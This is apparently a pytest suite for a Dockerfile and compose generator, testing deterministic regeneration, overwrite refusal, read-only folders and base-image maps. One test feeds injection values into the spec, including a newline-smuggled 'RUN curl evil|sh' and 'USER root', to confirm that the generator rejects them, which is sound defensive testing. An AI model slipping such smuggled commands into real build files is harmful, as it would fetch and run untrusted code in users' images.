"""Generation: byte-identical regeneration, the marker, --force, --check, the project's own build
files kept, all-or-nothing writes, and files that never depend on the base map. Golden files of
every layout are in tests/make."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from imagetailor.cli.main import main
from imagetailor.generate.files import MARKER_LINE, render_all
from imagetailor.project.model import load_spec

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
GENERATED = ("Dockerfile", ".dockerignore", "docker-bake.hcl", "compose.yaml")


@pytest.fixture(autouse=True)
def _no_env_base_map(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("TAILOR_BASE_MAP", raising=False)


def project(tmp_path: Path, example: str, *init: str) -> Path:
    target = tmp_path / example
    shutil.copytree(
        EXAMPLES / example, target, ignore=shutil.ignore_patterns("node_modules", "__pycache__")
    )
    assert main(["init", "--yes", "--dir", str(target), *init]) == 0
    return target


def test_generate_twice_is_byte_identical_and_marked(tmp_path: Path) -> None:
    root = project(tmp_path, "python-app")
    assert main(["generate", "--dir", str(root)]) == 0
    first = {name: (root / name).read_bytes() for name in GENERATED}
    stats = {name: (root / name).stat().st_mtime_ns for name in GENERATED}
    assert main(["generate", "--dir", str(root)]) == 0
    for name in GENERATED:
        assert (root / name).read_bytes() == first[name]
        assert (root / name).stat().st_mtime_ns == stats[name], f"{name} was rewritten"
        assert first[name].decode().splitlines()[0] == MARKER_LINE


def test_generated_files_never_depend_on_the_base_map(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Generate without a map, check in a shell that has one: up to date (and the other way)."""
    root = project(tmp_path, "go-app")
    assert main(["generate", "--dir", str(root)]) == 0
    before = {name: (root / name).read_bytes() for name in GENERATED}
    mapped = tmp_path / "map.toml"
    upstream = [
        "golang:1.19-bookworm",
        "gcr.io/distroless/static-debian12:nonroot",
        "debian:bookworm-slim",
        "node:24-trixie-slim",
    ]
    mapped.write_text(
        "".join(
            f'[bases."{n}"]\nimage = "mirror.example/base{i}"\n' for i, n in enumerate(upstream)
        )
    )
    monkeypatch.setenv("TAILOR_BASE_MAP", str(mapped))
    assert main(["generate", "--check", "--dir", str(root)]) == 0
    assert {name: (root / name).read_bytes() for name in GENERATED} == before


def test_a_base_map_without_the_version_is_one_line_at_generate(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    root = project(tmp_path, "node-app")
    mapped = tmp_path / "map.toml"
    mapped.write_text(
        '[bases."node:18-bookworm-slim"]\nimage = "stand-in/node:18"\n'
        '[bases."gcr.io/distroless/nodejs18-debian12:nonroot"]\nimage = "stand-in/dl:18"\n'
    )
    monkeypatch.setenv("TAILOR_BASE_MAP", str(mapped))
    capsys.readouterr()
    assert main(["generate", "--dir", str(root)]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1
    assert "has no node:24-trixie-slim for Node" in err and "it has Node.js 18;" in err
    assert "without a map the build would pull node:24-trixie-slim" in err
    assert not (root / "Dockerfile").exists()


def test_check_exits_1_when_out_of_date_and_0_after_generate(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = project(tmp_path, "node-app")
    assert main(["generate", "--check", "--dir", str(root)]) == 1  # nothing generated yet
    assert main(["generate", "--dir", str(root)]) == 0
    assert main(["generate", "--check", "--dir", str(root)]) == 0
    spec = root / "tailor.toml"
    spec.write_text(spec.read_text().replace("port = 8080", "port = 9000"))
    capsys.readouterr()
    assert main(["generate", "--check", "--dir", str(root)]) == 1
    out = capsys.readouterr().out
    assert "out-of-date\tDockerfile" in out
    assert "out-of-date\tcompose.yaml" in out
    assert "EXPOSE 8080" in (root / "Dockerfile").read_text(), "--check must not write"


def test_refuses_to_overwrite_unmarked_file_without_force(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = project(tmp_path, "go-app")
    capsys.readouterr()
    mine = "FROM busybox\n# my own Dockerfile\n"
    (root / "Dockerfile").write_text(mine)
    assert main(["generate", "--dir", str(root)]) == 2
    err = capsys.readouterr().err
    assert "Dockerfile" in err and "--force" in err
    assert len(err.strip().splitlines()) == 1
    assert (root / "Dockerfile").read_text() == mine
    # Nothing else was written either: refusal comes before any write.
    assert not (root / "compose.yaml").exists()
    assert main(["generate", "--dir", str(root), "--force"]) == 0
    assert (root / "Dockerfile").read_text().splitlines()[0] == MARKER_LINE


def test_the_projects_own_build_files_are_kept_and_ours_sit_beside_them(tmp_path: Path) -> None:
    root = tmp_path / "node-app"
    shutil.copytree(EXAMPLES / "node-app", root, ignore=shutil.ignore_patterns("node_modules"))
    mine = {
        "Dockerfile": "FROM node:20\nCOPY . .\n",
        ".dockerignore": "secrets/\n!keep.me\n",
        "docker-compose.yml": "services: {}\n",
    }
    for name, text in mine.items():
        (root / name).write_text(text)
    assert main(["init", "--yes", "--dir", str(root)]) == 0
    spec = load_spec(root / "tailor.toml")
    assert (spec.generate.dockerfile, spec.generate.compose) == (
        "Dockerfile.tailor",
        "compose.tailor.yaml",
    )
    assert main(["generate", "--dir", str(root)]) == 0
    for name, text in mine.items():
        assert (root / name).read_text() == text, f"{name} was touched"
    ignore = (root / "Dockerfile.tailor.dockerignore").read_text().splitlines()
    assert ignore[:4] == [
        MARKER_LINE,
        "# from the project's own .dockerignore",
        "secrets/",
        "!keep.me",
    ]
    assert "Dockerfile.tailor" in ignore and "Dockerfile" in ignore
    bake = (root / "docker-bake.hcl").read_text()
    assert 'dockerfile = "Dockerfile.tailor"' in bake
    assert 'dockerfile: "Dockerfile.tailor"' in (root / "compose.tailor.yaml").read_text()
    assert main(["generate", "--check", "--dir", str(root)]) == 0


def test_a_read_only_folder_is_one_line_and_leaves_nothing_behind(tmp_path: Path) -> None:
    """On a read-only mount (root ignores permission bits, so a real one, in a private mount
    namespace): one line, exit 2, and no temporary file left."""
    root = project(tmp_path, "go-app")
    before = sorted(os.listdir(root))
    tailor = f"{sys.executable} -m imagetailor.cli.main generate --dir {root}"
    script = f"mount --bind {root} {root} && mount -o remount,ro,bind {root} && {tailor}"
    done = subprocess.run(
        ["unshare", "--mount", "--propagation", "private", "sh", "-c", script],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 2, done.stderr
    err = done.stderr.strip()
    assert len(err.splitlines()) == 1 and "cannot write" in err and "Read-only" in err
    assert sorted(os.listdir(root)) == before


def test_special_files_in_the_way_are_never_replaced(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = project(tmp_path, "go-app")
    os.mkfifo(root / "compose.yaml")
    capsys.readouterr()
    for force in ([], ["--force"]):
        assert main(["generate", "--dir", str(root), *force]) == 2
        err = capsys.readouterr().err.strip()
        assert "compose.yaml" in err and "not a regular file" in err
        assert stat.S_ISFIFO(os.lstat(root / "compose.yaml").st_mode)
        assert not (root / "Dockerfile").exists(), "nothing is written when one file is refused"
    (root / "compose.yaml").unlink()
    (root / "elsewhere").write_text("x")
    (root / "compose.yaml").symlink_to(root / "elsewhere")
    assert main(["generate", "--dir", str(root), "--force"]) == 2
    assert (root / "elsewhere").read_text() == "x"


def test_values_cannot_write_instructions(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = project(tmp_path, "node-app")
    spec = root / "tailor.toml"
    text = spec.read_text()
    for old, new in [
        (
            'start = ["node", "src/server.js"]',
            'start = ["node", "src/server.js\\nRUN curl evil|sh"]',
        ),
        ('build = ""', 'build = "npm run build\\nUSER root"'),
        ('test = "npm test"', 'test = "npm test\\u2028RUN x"'),
    ]:
        spec.write_text(text.replace(old, new))
        capsys.readouterr()
        assert main(["generate", "--dir", str(root)]) == 2
        err = capsys.readouterr().err
        assert "control character" in err and len(err.strip().splitlines()) == 1
        assert not (root / "Dockerfile").exists()
    # $ and quotes are data, not syntax, in every file.
    spec.write_text(text.replace('test = "npm test"', 'test = "npm test -- --grep \\"$HOME\\""'))
    assert main(["generate", "--dir", str(root)]) == 0
    dockerfile = (root / "Dockerfile").read_text()
    assert 'CMD ["/bin/sh", "-c", "npm test -- --grep \\"$HOME\\""]' in dockerfile


def test_extended_purpose_gets_stage_tag_and_bake_target(tmp_path: Path) -> None:
    root = project(tmp_path, "node-app")
    spec_path = root / "tailor.toml"
    spec_path.write_text(
        spec_path.read_text() + '\n[purposes.debug]\nextends = "local"\ntools = ["jq"]\n'
    )
    spec = load_spec(spec_path)
    assert spec.tag("debug") == "node-app:1.0.0-debug"
    rendered = render_all(spec, root)
    assert "FROM local AS debug" in rendered["Dockerfile"]
    assert "apt-get install -y --no-install-recommends jq" in rendered["Dockerfile"]
    assert 'target "debug"' in rendered["docker-bake.hcl"]
    assert '"node-app:1.0.0-debug"' in rendered["docker-bake.hcl"]


def test_scratch_deploy_for_go(tmp_path: Path) -> None:
    root = project(tmp_path, "go-app")
    spec_path = root / "tailor.toml"
    spec_path.write_text(spec_path.read_text().replace('base = "distroless"', 'base = "scratch"'))
    dockerfile = render_all(load_spec(spec_path), root)["Dockerfile"]
    assert "FROM scratch AS deploy" in dockerfile
    assert "COPY --from=build /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/" in dockerfile
    assert "ARG DEPLOY_IMAGE" not in dockerfile
    assert "AS runtime" not in dockerfile  # nothing to de-duplicate against on scratch
    deploy = dockerfile.split("FROM scratch AS deploy", 1)[1].split("\nFROM ", 1)[0]
    assert "USER 65532:65532\n" in deploy
    assert 'ENTRYPOINT ["/app/go-app"]' in deploy


def test_dockerignore_translates_gitignore_and_keeps_manifests(tmp_path: Path) -> None:
    root = project(tmp_path, "node-app")
    (root / ".gitignore").write_text("/dist\npackage-lock.json\nlogs/\n!logs/.keep\n")
    lines = render_all(load_spec(root / "tailor.toml"), root)[".dockerignore"].splitlines()
    assert {"dist", "**/package-lock.json", "**/logs", "!logs/.keep"} <= set(lines)
    # A lock file the project's .gitignore hides is still sent: the build copies it.
    assert lines.index("!package-lock.json") > lines.index("**/package-lock.json")
    assert ".git" in lines and "tailor.toml" in lines and "Dockerfile" in lines
